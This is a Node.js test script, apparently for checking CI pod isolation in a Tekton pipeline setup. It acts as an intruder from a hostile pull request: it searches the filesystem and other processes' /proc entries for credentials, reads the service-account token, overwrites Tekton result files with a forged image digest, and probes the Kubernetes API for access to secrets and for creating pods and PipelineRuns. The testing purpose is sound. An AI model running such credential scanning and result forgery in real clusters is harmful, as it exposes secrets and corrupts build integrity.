'use strict';

/**
 * What a hostile pull request would try from inside a pod: prints, as one line of JSON behind `INTRUDER `, the credentials
 * that it can read (the tests mark theirs with LEAK-<name>-<hex>), and what the API server lets it do.
 */
const fs = require('node:fs');
const https = require('node:https');
const { join } = require('node:path');

const MARK = /LEAK-([a-z-]+)-[0-9a-f]{8}/g;
const ACCOUNT = '/var/run/secrets/kubernetes.io/serviceaccount';
/** Programs, and what the kernel makes up. */
const DULL = /^\/(sys|dev|usr|lib|lib64|bin|sbin|proc)(\/|$)/;
const found = new Set();

function read(path) {
  try {
    const text = fs.statSync(path).size < 1 << 18 ? fs.readFileSync(path, 'latin1') : '';
    for (const [, name] of text.matchAll(MARK)) found.add(name);
    return text;
  } catch {
    return '';
  }
}

function search(folder) {
  let entries = [];
  try {
    entries = fs.readdirSync(folder, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const path = join(folder, entry.name);
    if (DULL.test(path)) continue;
    if (entry.isDirectory()) search(path);
    else if (!entry.isFIFO() && !entry.isSocket()) read(path);
  }
}

/** Other containers' and other processes' environments and files, as far as /proc shows them. */
function peek() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    read(`/proc/${pid}/environ`);
    for (const folder of ['credentials', 'var/run/secrets']) search(`/proc/${pid}/root/${folder}`);
  }
}

/** Results of the Task, and of steps before this one. */
function forge() {
  for (const path of [
    '/tekton/results/IMAGE_DIGEST',
    '/tekton/results/TREE',
    '/tekton/steps/step-look-for-image/results/FOUND',
    '/tekton/steps/step-clone/results/TREE',
  ]) {
    try {
      fs.writeFileSync(path, `sha256:${'f'.repeat(64)}`);
    } catch {
      // refused: so much the better
    }
  }
}

function ask(method, path, token, body) {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) };
    const request = https.request(
      `https://kubernetes.default.svc${path}`,
      { method, headers, rejectUnauthorized: false, timeout: 5000 },
      (response) => {
        response.resume();
        resolve(response.statusCode);
      },
    );
    request.on('timeout', () => request.destroy());
    request.on('error', () => resolve(0));
    request.end(body);
  });
}

async function intrude(namespace, environment) {
  search('/');
  peek();
  forge();
  const token = read(`${ACCOUNT}/token`);
  const pod = JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'intruder' },
    spec: { containers: [{ name: 'x', image: 'x' }] },
  });
  const attempts = [
    ['GET', `/api/v1/namespaces/${namespace}/secrets`],
    ['GET', '/api/v1/namespaces/kube-system/secrets'],
    ['GET', `/api/v1/namespaces/${environment}/pods`],
    ['POST', `/api/v1/namespaces/${environment}/pods`, pod],
    ['GET', `/apis/tekton.dev/v1/namespaces/${namespace}/pipelineruns`],
    [
      'POST',
      `/apis/tekton.dev/v1/namespaces/${namespace}/pipelineruns`,
      '{"apiVersion":"tekton.dev/v1","kind":"PipelineRun","metadata":{"name":"intruder"},"spec":{"pipelineRef":{"name":"x"}}}',
    ],
    ['GET', `/apis/tekton-dag.io/v1alpha1/namespaces/${namespace}/runrequests`],
    ['GET', `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases`],
  ];
  const allowed = [];
  for (const [method, path, body] of attempts)
    if (await ask(method, path, token, body).then((status) => status >= 200 && status < 300))
      allowed.push(`${method} ${path}`);
  const reached = (await ask('GET', '/version', token)) > 0;
  console.log(
    `INTRUDER ${JSON.stringify({ place: process.argv[4], token: token !== '', secrets: [...found].sort(), allowed, reached })}`,
  );
}

void intrude(process.argv[2], process.argv[3]);
